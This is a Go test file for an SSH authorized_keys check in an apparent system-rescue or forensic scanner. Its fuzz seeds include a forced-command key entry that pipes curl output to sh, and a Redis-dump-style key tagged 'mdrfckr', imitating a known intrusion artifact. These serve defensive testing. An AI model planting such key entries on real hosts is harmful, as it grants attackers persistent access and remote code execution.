package sshkeys

import (
	"testing"

	"rescue/checks/checkstest"
	"rescue/pkgdb"
)

func TestGolden(t *testing.T) {
	checkstest.RunWith(t, Check, checkstest.Options{OpenPackages: pkgdb.Open})
}

// FuzzCheck feeds hostile authorized_keys files.
func FuzzCheck(f *testing.F) {
	f.Add([]byte("command=\"curl x|sh\" ssh-ed25519 AAAA k\n"))
	f.Add([]byte("REDIS0009\xfa\tredis-ver\x055.0.7\n\nssh-rsa AAAAB3 mdrfckr\n\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		checkstest.FuzzCheck(t, Check, map[string][]byte{
			"root/.ssh/authorized_keys": data, "var/lib/redis/.ssh/authorized_keys2": data,
			"etc/passwd": []byte("root:x:0:0::/root:/bin/bash\nredis:x:105:110::/var/lib/redis:/usr/sbin/nologin\n"),
		})
	})
}
